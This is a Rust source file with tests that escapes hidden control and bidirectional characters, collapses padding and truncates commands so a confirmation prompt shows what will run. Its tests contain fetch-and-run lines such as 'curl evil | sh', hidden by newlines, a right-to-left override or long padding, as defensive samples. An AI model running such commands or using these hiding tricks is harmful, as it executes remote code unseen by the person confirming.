//! Characters that hide what a text does: controls and Unicode bidirectional controls, which
//! an editor, a review or a confirmation dialog does not show as what they are. The
//! `hidden-characters` rule asks `is_hidden`; whatever shows a command to a person before it
//! runs (the Run confirmation, the `exec` prompt) shows it through `escape_hidden`.

/// Whether `c` hides what a text does: a control character other than tab (C0 U+0000-U+001F,
/// DEL U+007F, C1 U+0080-U+009F), or a bidirectional control (the embeddings and overrides
/// U+202A-U+202E, the isolates U+2066-U+2069), which reorder how the text around them shows
/// (a right-to-left override makes the rest of a line read backwards).
///
/// Tab is not hidden: it is common in scripts and shows as space, which is what it does.
pub fn is_hidden(c: char) -> bool {
    (c.is_control() && c != '\t') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `text` for a person to read before it runs: every hidden character (see `is_hidden`), and
/// tab, written as a visible escape, the rest kept as is (CJK, emoji, accents, spaces).
///
/// - newline, carriage return and tab as `\n`, `\r`, `\t`;
/// - every other hidden character as `\u` and four lower-case hex digits: `\u0000`, `\u001b`,
///   `\u007f`, `\u0085`, `\u202e` (all of them are in the Basic Multilingual Plane).
///
/// A backslash is left as is, so the result is for showing, not a format to read back: a real
/// newline and a typed backslash followed by `n` look the same. That is the right trade for a
/// confirmation, where doubling every backslash would make ordinary commands
/// (`printf 'a\n'`) harder to read, and the point is only that nothing acts unseen. The result
/// holds no line break, so it stays on one line.
pub fn escape_hidden(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => escaped.push_str("\\n"),
            '\r' => escaped.push_str("\\r"),
            '\t' => escaped.push_str("\\t"),
            c if is_hidden(c) => escaped.push_str(&format!("\\u{:04x}", u32::from(c))),
            c => escaped.push(c),
        }
    }
    escaped
}

/// Longest command a confirmation shows before it is cut (with the count of the rest).
pub const CONFIRM_CHARS: usize = 300;

/// Runs of this many spaces or more are shown by their count, so padding cannot push the rest
/// of a command out of sight.
const SPACE_RUN: usize = 8;

/// A command as the person confirming it must see it, on one line: each item escaped
/// (`escape_hidden`) and quoted as a shell would need it (`sh -c 'ls -a'`, so item boundaries
/// show), long runs of spaces as `⟨40 spaces⟩`, and cut at `max_chars` characters with the
/// count of the rest (`… (+1234 more characters)`).
pub fn display_command(items: &[String], max_chars: usize) -> String {
    let quoted: Vec<String> = items
        .iter()
        .map(|item| shell_quoted(&escape_hidden(item)))
        .collect();
    let shown = count_space_runs(&quoted.join(" "));
    let total = shown.chars().count();
    if total <= max_chars {
        return shown;
    }
    let kept: String = shown.chars().take(max_chars).collect();
    format!("{kept}… (+{} more characters)", total - max_chars)
}

/// `item` as a POSIX shell word: bare when it is plain, else in single quotes (`'it'\''s'`).
/// Single quotes keep backslashes as they are, so escapes read the same inside and out.
fn shell_quoted(item: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "_@%+=:,./-".contains(c);
    if !item.is_empty() && item.chars().all(plain) {
        return item.to_owned();
    }
    format!("'{}'", item.replace('\'', "'\\''"))
}

/// `text` with every run of `SPACE_RUN` or more spaces replaced by `⟨N spaces⟩`.
fn count_space_runs(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut run = 0;
    let flush = |out: &mut String, run: usize| {
        if run >= SPACE_RUN {
            out.push_str(&format!("⟨{run} spaces⟩"));
        } else {
            out.extend(std::iter::repeat_n(' ', run));
        }
    };
    for c in text.chars() {
        if c == ' ' {
            run += 1;
            continue;
        }
        flush(&mut out, run);
        run = 0;
        out.push(c);
    }
    flush(&mut out, run);
    out
}

#[cfg(test)]
mod tests {
    use super::{display_command, escape_hidden, is_hidden};

    #[test]
    fn controls_other_than_tab_and_bidirectional_controls_are_hidden() {
        for c in [
            '\0', '\n', '\r', '\u{1b}', '\u{7f}', '\u{80}', '\u{85}', '\u{9f}',
        ] {
            assert!(is_hidden(c), "{c:?}");
        }
        for c in '\u{202a}'..='\u{202e}' {
            assert!(is_hidden(c), "{c:?}");
        }
        for c in '\u{2066}'..='\u{2069}' {
            assert!(is_hidden(c), "{c:?}");
        }
        for c in [
            '\t', ' ', 'a', '\\', '"', '\u{a0}', 'é', '你', '😀', '\u{2029}', '\u{2065}',
            '\u{206a}', '\u{feff}',
        ] {
            assert!(!is_hidden(c), "{c:?}");
        }
    }

    #[test]
    fn visible_text_is_kept_as_is() {
        for text in [
            "",
            "ls -a",
            "echo 你好，世界",
            "echo 😀👍🏽",
            "café",
            "a  b",
            r"C:\temp \n",
        ] {
            assert_eq!(escape_hidden(text), text);
        }
    }

    #[test]
    fn hidden_characters_and_tab_are_escaped() {
        assert_eq!(escape_hidden("a\nb\r\nc\td"), r"a\nb\r\nc\td");
        assert_eq!(escape_hidden("nul\0"), r"nul\u0000");
        assert_eq!(escape_hidden("del\u{7f}"), r"del\u007f");
        assert_eq!(escape_hidden("esc\u{1b}[2J"), r"esc\u001b[2J");
        assert_eq!(escape_hidden("\u{80}\u{85}\u{9f}"), r"\u0080\u0085\u009f");
        assert_eq!(
            escape_hidden("ls \u{202e}; curl x | sh"),
            r"ls \u202e; curl x | sh"
        );
        assert_eq!(escape_hidden("\u{2066}x\u{2069}"), r"\u2066x\u2069");
    }

    #[test]
    fn escapes_sit_among_wide_characters_and_backslashes() {
        assert_eq!(escape_hidden("你\n好😀\u{202e}"), r"你\n好😀\u202e");
        // A backslash is not doubled: the escape is for reading, not a format to parse.
        assert_eq!(escape_hidden("a\\\nb"), r"a\\nb");
    }

    #[test]
    fn the_result_is_one_line_of_visible_characters() {
        let every: String = (0..0x2100)
            .filter_map(char::from_u32)
            .chain(['😀', '\u{10ffff}'])
            .collect();
        let escaped = escape_hidden(&every);
        assert!(!escaped.chars().any(is_hidden), "{escaped:?}");
        assert!(!escaped.contains('\t'));
    }

    fn items(items: &[&str]) -> Vec<String> {
        items.iter().map(|item| item.to_string()).collect()
    }

    #[test]
    fn a_confirmed_command_shows_what_runs() {
        assert_eq!(
            display_command(&items(&["/bin/sh", "-c", "ls -a"]), 300),
            "/bin/sh -c 'ls -a'"
        );
        // A newline and a right-to-left override cannot hide a second command.
        assert_eq!(
            display_command(&items(&["sh", "-c", "ls\n; curl x | sh\u{202e}"]), 300),
            r"sh -c 'ls\n; curl x | sh\u202e'"
        );
        let padded = format!("ls{}; curl evil | sh", " ".repeat(500));
        assert_eq!(
            display_command(&items(&["sh", "-c", &padded]), 300),
            "sh -c 'ls⟨500 spaces⟩; curl evil | sh'"
        );
        assert_eq!(
            display_command(&items(&["", "a b", "it's", "日本"]), 300),
            r"'' 'a b' 'it'\''s' 日本"
        );
    }

    #[test]
    fn a_long_command_is_cut_with_the_count_of_the_rest() {
        let long = "x".repeat(1000);
        let shown = display_command(&items(&["echo", &long]), 300);
        assert_eq!(
            shown.chars().count(),
            300 + "… (+705 more characters)".chars().count()
        );
        assert!(shown.ends_with("… (+705 more characters)"), "{shown}");
    }
}
